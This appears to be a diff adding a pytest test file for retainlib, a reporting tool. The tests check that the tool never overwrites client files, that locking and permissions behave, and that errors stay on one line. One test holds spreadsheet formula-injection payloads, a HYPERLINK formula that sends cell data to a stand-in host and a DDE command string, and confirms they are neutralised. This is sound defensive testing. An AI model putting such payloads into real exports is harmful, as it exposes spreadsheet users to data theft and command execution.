@@ -1,0 +1,340 @@
+"""Outputs never delete or overwrite what retainlib did not write (no notebook runs here)."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import textwrap
+
+import pytest
+import yaml
+
+import retainlib as rl
+from retainlib import _outputs
+from retainlib.cli import main
+from retainlib.errors import OutputError
+from retainlib.metrics import write_outputs
+from retainlib.report import _batch, _client, parse_batch, run_batch
+
+
+def _client_folder(root):
+    """A consultant's client folder: the export, the survey and the config, none of them ours."""
+    folder = root / "acme"
+    folder.mkdir(parents=True)
+    (folder / "sales.csv").write_text("customer_id,date,amount\nc1,2024-01-05,10\n",
+                                      encoding="utf-8")
+    (folder / "survey.csv").write_text("customer_id,date,score\nc1,2024-01-06,9\n",
+                                       encoding="utf-8")
+    (folder / "client.yaml").write_text(
+        "client: Acme\ndata: sales.csv\nsurvey: {data: survey.csv}\n", encoding="utf-8")
+    return folder
+
+
+def _contents(folder):
+    return {p.relative_to(folder).as_posix(): p.read_bytes()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_report_into_the_folder_that_holds_the_client_files_is_refused(tmp_path, capsys):
+    # the README's first example once deleted ~/clients/acme/{sales,survey}.csv and client.yaml
+    folder = _client_folder(tmp_path / "clients")
+    before = _contents(folder)
+    code = main(["report", str(folder / "client.yaml"), "--out", str(tmp_path / "clients")])
+    assert code == 2
+    err = capsys.readouterr().err.strip()
+    assert len(err.splitlines()) == 1 and "Traceback" not in err
+    assert str(folder) in err and "client.yaml" in err and "choose another --out" in err
+    assert _contents(folder) == before
+
+
+def test_a_folder_named_like_the_client_that_is_not_ours_is_refused(tmp_path, capsys):
+    data = _client_folder(tmp_path / "clients")
+    out = tmp_path / "reports"
+    (out / "acme").mkdir(parents=True)
+    (out / "acme" / "notes.txt").write_text("the consultant's own notes", encoding="utf-8")
+    assert main(["report", str(data / "client.yaml"), "--out", str(out)]) == 2
+    err = capsys.readouterr().err
+    assert "notes.txt" in err and str(out / "acme") in err
+    assert (out / "acme" / "notes.txt").read_text(encoding="utf-8") == "the consultant's own notes"
+    # nothing was started: no lock, no temporary folder
+    assert sorted(p.name for p in out.iterdir()) == ["acme"]
+
+
+@pytest.mark.parametrize("setup, allowed", [
+    ("absent", True),
+    ("empty", True),
+    ("report", True),           # everything listed in a client-report manifest
+    ("report+user-file", False),
+    ("report+user-subfile", False),
+    ("demo-data", False),       # ours, but the data a report reads: never replaced by a report
+    ("no-manifest", False),
+    ("file", False),
+    ("symlink", False),
+])
+def test_which_folders_a_report_may_replace(tmp_path, setup, allowed):
+    folder = tmp_path / "acme"
+    if setup == "empty":
+        folder.mkdir()
+    elif setup.startswith("report"):
+        (folder / "segments").mkdir(parents=True)
+        (folder / "report.html").write_text("x", encoding="utf-8")
+        (folder / "segments" / "region-north.html").write_text("x", encoding="utf-8")
+        _outputs.write_manifest(folder)
+        if setup == "report+user-file":
+            (folder / "todo.txt").write_text("mine", encoding="utf-8")
+        if setup == "report+user-subfile":
+            (folder / "segments" / "mine.xlsx").write_text("mine", encoding="utf-8")
+    elif setup == "demo-data":
+        rl.write_demo(folder, n_customers=20)
+    elif setup == "no-manifest":
+        folder.mkdir()
+        (folder / "report.html").write_text("x", encoding="utf-8")
+    elif setup == "file":
+        folder.write_text("x", encoding="utf-8")
+    elif setup == "symlink":
+        (tmp_path / "elsewhere").mkdir()
+        folder.symlink_to(tmp_path / "elsewhere")
+    if allowed:
+        _outputs.check_replaceable(folder)
+    else:
+        with pytest.raises(OutputError, match="acme"):
+            _outputs.check_replaceable(folder)
+
+
+def test_the_refusal_names_what_is_not_ours(tmp_path):
+    folder = tmp_path / "acme"
+    folder.mkdir()
+    (folder / "report.html").write_text("x", encoding="utf-8")
+    _outputs.write_manifest(folder)
+    for name in ("a.txt", "b.txt"):
+        (folder / name).write_text("mine", encoding="utf-8")
+    with pytest.raises(OutputError) as info:
+        _outputs.check_replaceable(folder)
+    message = str(info.value)
+    assert "a.txt, b.txt" in message and "report.html" not in message
+
+
+def test_write_text_overwrites_only_its_own_files(tmp_path):
+    page = tmp_path / "index.html"
+    page.write_text("the client's own page", encoding="utf-8")
+    with pytest.raises(OutputError, match="index.html"):
+        _outputs.write_text(page, "<p>portfolio</p>")
+    assert page.read_text(encoding="utf-8") == "the client's own page"
+    ours = tmp_path / "batch_summary.csv"
+    _outputs.write_text(ours, "first\n")
+    _outputs.write_text(ours, "second\n")  # ours: may be replaced
+    assert ours.read_text(encoding="utf-8") == "second\n"
+    assert _outputs.owned_files(tmp_path) == ["batch_summary.csv"]
+
+
+def test_batch_refuses_an_index_or_summary_it_did_not_write_before_running(tmp_path):
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "index.html").write_text("the intranet's front page", encoding="utf-8")
+    cfg = rl.write_demo(tmp_path / "data", n_customers=20)
+    with pytest.raises(OutputError, match="index.html"):
+        run_batch({"clients": [str(cfg)]}, out, workers=1)
+    assert sorted(p.name for p in out.iterdir()) == ["index.html"]  # nothing ran
+
+
+def test_write_outputs_and_write_demo_never_overwrite_a_clients_file(tmp_path):
+    (tmp_path / "customers.csv").write_text("the client's own customer list", encoding="utf-8")
+    with pytest.raises(OutputError, match="customers.csv"):
+        write_outputs(object(), tmp_path)  # refused before anything is computed
+    assert (tmp_path / "customers.csv").read_text(encoding="utf-8") == \
+        "the client's own customer list"
+    (tmp_path / "sales.csv").write_text("real sales", encoding="utf-8")
+    with pytest.raises(OutputError, match="sales.csv"):
+        rl.write_demo(tmp_path, n_customers=20)
+    assert (tmp_path / "sales.csv").read_text(encoding="utf-8") == "real sales"
+    demo = tmp_path / "demo"
+    first = rl.write_demo(demo, n_customers=20).read_bytes()
+    assert rl.write_demo(demo, n_customers=20).read_bytes() == first  # its own files: rewritten
+
+
+def test_stale_cleanup_matches_the_exact_client_only(tmp_path):
+    out = tmp_path
+    def made(name, ours=True):
+        p = out / name
+        p.mkdir()
+        (p / "report.ipynb").write_text("{}", encoding="utf-8")
+        if ours:
+            _outputs.write_manifest(p)
+        return p
+
+    crashed = made(".tmp.acme.99999.deadbeef")
+    replaced = made(".old.acme.99999.deadbeef")
+    other_client = made(".tmp.acme-ltd.12345.cafe0001")  # a live run of "Acme Ltd"
+    not_ours = made(".tmp.acme.1.userfolder", ours=False)
+    _client._clean_stale(out, "acme")
+    assert not crashed.exists() and not replaced.exists()
+    assert other_client.is_dir() and not_ours.is_dir()
+
+
+def test_work_folders_have_unique_names_and_the_umask_permissions(tmp_path):
+    old = os.umask(0o027)
+    try:
+        a = _client._work_folder(tmp_path, "acme")
+        b = _client._work_folder(tmp_path, "acme")
+        page = _outputs.write_text(a / "report.html", "x")
+        root = _outputs.output_root(tmp_path / "new" / "out")
+    finally:
+        os.umask(old)
+    assert a != b and a.name.startswith(f".tmp.acme.{os.getpid()}.")
+    assert (a.stat().st_mode & 0o777) == 0o750 and (root.stat().st_mode & 0o777) == 0o750
+    assert (page.stat().st_mode & 0o777) == 0o640
+    old = os.umask(0o022)
+    try:
+        page = _outputs.write_text(a / "report.html", "y")
+        folder = _client._work_folder(tmp_path, "beta")
+    finally:
+        os.umask(old)
+    assert (page.stat().st_mode & 0o777) == 0o644 and (folder.stat().st_mode & 0o777) == 0o755
+
+
+def test_a_second_run_of_the_same_client_folder_is_refused_while_the_first_holds_it(tmp_path):
+    holder = subprocess.Popen(
+        [sys.executable, "-c", textwrap.dedent(f"""
+            import sys, time
+            from pathlib import Path
+            from retainlib import _outputs
+            with _outputs.folder_lock(Path({str(tmp_path)!r}), "acme", "acme"):
+                print("locked", flush=True)
+                sys.stdin.readline()
+        """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout.readline().strip() == "locked"
+        with pytest.raises(OutputError, match="another retain run is writing"), \
+                _outputs.folder_lock(tmp_path, "acme", "acme"):
+            pass
+        with _outputs.folder_lock(tmp_path, "acme-ltd", "acme-ltd"):  # another client: free
+            pass
+    finally:
+        holder.communicate("\n", timeout=30)
+    with _outputs.folder_lock(tmp_path, "acme", "acme"):  # released with its process
+        pass
+
+
+def _deep_yaml(depth):
+    return "client: Deep\ndata: sales.csv\nx: " + "[" * depth + "]" * depth + "\n"
+
+
+def test_a_config_that_is_not_a_config_error_still_fails_alone(tmp_path):
+    good = rl.write_demo(tmp_path / "good", n_customers=20, client="Good")
+    deep = tmp_path / "deep"
+    deep.mkdir()
+    (deep / "sales.csv").write_text("customer_id,date,amount\n", encoding="utf-8")
+    (deep / "client.yaml").write_text(_deep_yaml(5000), encoding="utf-8")
+    loop = tmp_path / "loop"
+    loop.mkdir()
+    os.symlink(loop / "b.csv", loop / "a.csv")
+    os.symlink(loop / "a.csv", loop / "b.csv")
+    (loop / "client.yaml").write_text("client: Loop\ndata: a.csv\n", encoding="utf-8")
+    batch = tmp_path / "batch.yaml"
+    batch.write_text(yaml.safe_dump({"clients": [
+        "deep/client.yaml", str(good.relative_to(tmp_path)), "loop/client.yaml"]}),
+        encoding="utf-8")
+    configs, failed = parse_batch(batch)
+    assert [c.client for c in configs] == ["Good"]
+    reasons = {f["client"]: f["error"] for f in failed}
+    assert set(reasons) == {"deep/client.yaml", "Loop"}  # unreadable: named by its path
+    assert all("\n" not in r and "Traceback" not in r for r in reasons.values())
+    assert "nested too deeply" in reasons["deep/client.yaml"]
+    assert "symlink loop" in reasons["Loop"]
+    assert [f["position"] for f in failed] == [0, 2]
+
+
+def test_retain_report_on_a_deep_or_looping_config_is_one_line(tmp_path, capsys):
+    (tmp_path / "deep.yaml").write_text(_deep_yaml(5000), encoding="utf-8")
+    assert main(["report", str(tmp_path / "deep.yaml"), "--out", str(tmp_path / "out")]) == 2
+    err = capsys.readouterr().err.strip()
+    assert err.count("\n") == 0 and "nested too deeply" in err
+    os.symlink(tmp_path / "y.csv", tmp_path / "x.csv")
+    os.symlink(tmp_path / "x.csv", tmp_path / "y.csv")
+    (tmp_path / "loop.yaml").write_text("client: Loop\ndata: x.csv\n", encoding="utf-8")
+    assert main(["report", str(tmp_path / "loop.yaml"), "--out", str(tmp_path / "out")]) == 2
+    err = capsys.readouterr().err.strip()
+    assert err.count("\n") == 0 and "symlink loop" in err
+
+
+def test_an_unexpected_error_in_one_client_is_a_failed_row(tmp_path, monkeypatch):
+    cfg = rl.config.load_config(rl.write_demo(tmp_path / "data", n_customers=20))
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("something retainlib did not foresee\nsecond line")
+
+    monkeypatch.setattr(_batch, "run_client", broken)
+    row = _batch._run_one(cfg, tmp_path / "out", {"timeout": None})
+    assert row["status"] == "failed" and row["client"] == "demo"
+    assert row["error"] == "internal error: RuntimeError: something retainlib did not foresee"
+
+
+def test_internal_error_prints_one_line_and_saves_the_traceback(tmp_path, monkeypatch, capsys):
+    import retainlib.report
+
+    def broken(*args, **kwargs):
+        raise KeyError("unexpected")
+
+    monkeypatch.setattr(retainlib.report, "report_command", broken)
+    assert main(["report", "x.yaml", "--out", str(tmp_path)]) == 3
+    err = capsys.readouterr().err.strip()
+    assert err.count("\n") == 0 and "internal error: KeyError" in err
+    saved = err.split("the full traceback is in ")[1].split(";")[0]
+    text = open(saved, encoding="utf-8").read()
+    os.unlink(saved)
+    assert text.startswith("Traceback") and "KeyError: 'unexpected'" in text
+
+
+def test_out_that_is_a_file_is_one_sentence(tmp_path, capsys):
+    cfg = rl.write_demo(tmp_path / "data", n_customers=20)
+    target = tmp_path / "reports.csv"
+    target.write_text("a,b\n", encoding="utf-8")
+    for command in (["report", str(cfg)], ["batch", str(tmp_path / "b.yaml")]):
+        (tmp_path / "b.yaml").write_text(yaml.safe_dump({"clients": [str(cfg)]}),
+                                         encoding="utf-8")
+        assert main([*command, "--out", str(target)]) == 2
+        err = capsys.readouterr().err.strip()
+        assert err.count("\n") == 0 and "is a file, not a folder" in err
+    assert target.read_text(encoding="utf-8") == "a,b\n"
+
+
+@pytest.mark.parametrize("value", ["0", "-5", "soon", "inf"])
+def test_timeout_must_be_positive_seconds(value, capsys):
+    with pytest.raises(SystemExit) as info:
+        main(["report", "x.yaml", "--timeout", value])
+    assert info.value.code == 2
+    assert "must be a number of seconds > 0" in capsys.readouterr().err
+
+
+def test_timeout_config_key_and_batch_level_timeout(tmp_path):
+    cfg = rl.write_demo(tmp_path / "data", n_customers=20)
+    raw = yaml.safe_load(cfg.read_text(encoding="utf-8"))
+    assert rl.config.load_config({**raw, "data": str(cfg.parent / "sales.csv"),
+                                  "survey": None, "timeout": 90}).timeout == 90
+    with pytest.raises(rl.ConfigError, match="timeout"):
+        rl.config.load_config({**raw, "data": str(cfg.parent / "sales.csv"), "survey": None,
+                               "timeout": -1})
+    configs, _ = parse_batch({"timeout": 120, "clients": [str(cfg)]})
+    assert configs[0].timeout == 120
+    configs, _ = parse_batch({"timeout": 120, "defaults": {"timeout": 60}, "clients": [str(cfg)]})
+    assert configs[0].timeout == 60  # defaults win over the batch-wide value, the client over both
+
+
+def test_batch_summary_cells_are_safe_from_spreadsheets():
+    rows = [{"client": '=HYPERLINK("http://x/?q="&A1,"open")', "status": "failed",
+             "seconds": 0.0, "error": "@SUM(1+1)"},
+            {"client": "+cmd|\"/c calc\"!A1", "status": "ok", "seconds": -1.5, "error": ""}]
+    text = _batch.summary_csv(rows)
+    lines = text.split("\r\n")
+    assert lines[0] == "client,status,seconds,error"
+    assert lines[1] == '"\'=HYPERLINK(""http://x/?q=""&A1,""open"")",failed,0.0,\'@SUM(1+1)'
+    assert lines[2] == '"\'+cmd|""/c calc""!A1",ok,-1.5,'  # a number stays a number
+
+
+def test_manifest_is_json_naming_retainlib(tmp_path):
+    _outputs.write_text(tmp_path / "a.txt", "x")
+    data = json.loads((tmp_path / ".retainlib.json").read_text(encoding="utf-8"))
+    assert data["written_by"] == "retainlib" and data["files"] == ["a.txt"]
+    assert data["version"] == rl.__version__
